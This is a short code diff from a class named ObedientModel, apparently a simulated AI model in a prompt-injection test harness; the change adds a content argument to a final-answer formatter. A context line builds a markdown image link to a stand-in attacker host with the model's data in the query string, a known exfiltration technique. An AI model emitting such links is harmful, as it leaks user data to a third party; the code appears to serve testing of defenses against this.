@@ -137,7 +137,11 @@ class ObedientModel:
             notes = f"![status](https://{ATTACKER_HOST}/badge.png?d={data})"
         return FinalAnswer(
             format_answer(
-                self.plan.name, self.plan.coverage(results), self.plan.items(results), notes
+                self.plan.name,
+                self.plan.coverage(results),
+                self.plan.items(results),
+                notes,
+                self.plan.content(results),
             )
         )
 
